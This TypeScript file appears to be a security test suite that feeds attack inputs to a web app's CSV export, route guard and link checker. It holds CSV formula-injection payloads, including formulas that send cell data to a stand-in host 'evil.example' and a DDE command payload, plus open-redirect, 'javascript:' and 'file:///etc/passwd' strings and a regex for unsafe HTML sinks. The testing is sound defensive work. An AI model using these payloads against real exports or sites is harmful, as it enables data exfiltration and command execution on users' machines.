/** Output of the product: files opened by a spreadsheet, and addresses a browser is sent to. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { guard } from '@/app/routes/guard';
import { placeOf } from '@/app/routes/placeOf';
import { csvCell, csvText } from '@/domain/csv';
import { isWebAddress } from '@/components/ui/text/webAddress';
import type { Session } from '@/state/session';
import { type Attack, type Group, letThrough } from './attack';

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+cmd|x',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '"=1+1',
  "''=1+1",
  '%0A=1+1',
];

/** A row's first cell as a spreadsheet reads it: without the quotes, and with doubled quotes as one. */
function asRead(line: string): string {
  const quoted = /^"((?:[^"]|"")*)"/s.exec(line);
  return quoted ? (quoted[1] ?? '').replaceAll('""', '"') : (line.split(',')[0] ?? '');
}

const formula = (text: string): Attack => ({
  name: `the cell ${JSON.stringify(text)}`,
  surface: 'export',
  attempt: () => {
    const read = asRead(csvCell(text));
    return /^[\s\u00a0]*[=+\-@＝＋－＠]/.test(read) ? letThrough(read) : 'kept as text';
  },
});

function filesBelow(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesBelow(join(folder, entry.name)) : [join(folder, entry.name)],
  );
}

const AWAY = [
  'https://evil.example',
  '//evil.example',
  '/\\evil.example',
  '/%2f%2fevil.example',
  '/login/../..//evil.example',
  'javascript:alert(1)',
  '/\tevil',
  '/bookings@evil.example',
];
const FLAGS = { home: true, login: true, register: true };
const SESSIONS = [
  { phase: 'signedOut' },
  { phase: 'signedIn', role: 'rider' },
  { phase: 'signedIn', role: 'admin', profile: { usertype: 'admin' } },
  { phase: 'signedIn', role: 'admin', profile: { usertype: 'admin', right: 'licensing' } },
] as unknown as Session[];

const redirect = (path: string): Attack => ({
  name: `the address ${JSON.stringify(path)}`,
  surface: 'browser',
  attempt: () => {
    for (const session of SESSIONS) {
      const verdict = guard(path, session, FLAGS);
      if (verdict.show !== 'notFound') letThrough(verdict);
    }
    const place = placeOf(path, false, FLAGS);
    return place === 'notFound' ? 'not a page' : letThrough(place);
  },
});

const link = (address: string): Attack => ({
  name: `a link of the settings to ${JSON.stringify(address)}`,
  surface: 'browser',
  attempt: () => (isWebAddress(address) ? letThrough(address) : 'no web address'),
});

export const outputGroup: Group = {
  title: 'exports and addresses',
  attacks: [
    ...FORMULAS.map(formula),
    {
      name: 'a cell that breaks out of its row',
      surface: 'export',
      attempt: () => {
        const text = csvText(['a', 'b'], [['x"\r\n=1+1,"', 'y']]);
        const rows = text.match(/(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*\r\n/g) ?? [];
        return rows.length === 2 ? 'one row' : letThrough(rows);
      },
    },
    {
      name: 'a file of values made past the one that makes them safe',
      surface: 'export',
      attempt: () => {
        const makers = filesBelow('src')
          .filter((file) => !file.endsWith('csv.ts') && !file.endsWith('saveFile.ts'))
          .filter((file) =>
            /type: ['"`]text\/csv|\.join\(['"`],['"`]\)\s*\+\s*['"`]\\r?\\n/.test(readFileSync(file, 'utf8')),
          );
        return makers.length === 0 ? 'all by domain/csv' : letThrough(makers);
      },
    },
    {
      name: 'raw markup on a page',
      surface: 'browser',
      attempt: () => {
        const found = filesBelow('src').filter((file) =>
          /dangerouslySetInnerHTML|\.innerHTML\s*=|\.outerHTML\s*=|insertAdjacentHTML|document\.write\(|\beval\(|new Function\(/.test(
            readFileSync(file, 'utf8'),
          ),
        );
        return found.length === 0 ? 'nowhere in src' : letThrough(found);
      },
    },
    ...AWAY.map(redirect),
    ...[
      'javascript:alert(1)',
      ' javascript:alert(1)',
      'data:text/html,x',
      'vbscript:x',
      'http//x',
      'file:///etc/passwd',
      '//evil.example',
    ].map(link),
  ],
  controls: [
    {
      name: 'plain values, pages and links are what they are',
      surface: 'export',
      attempt: () => {
        if (csvText(['Name'], [['Nia Prosser'], [-12.5]]) !== 'Name\r\nNia Prosser\r\n-12.5\r\n')
          throw new Error('csv');
        if (guard('/profile', SESSIONS[2] as Session, FLAGS).show !== 'screen') throw new Error('guard');
        if (!isWebAddress('https://amberlight.example')) throw new Error('link');
      },
    },
  ],
};
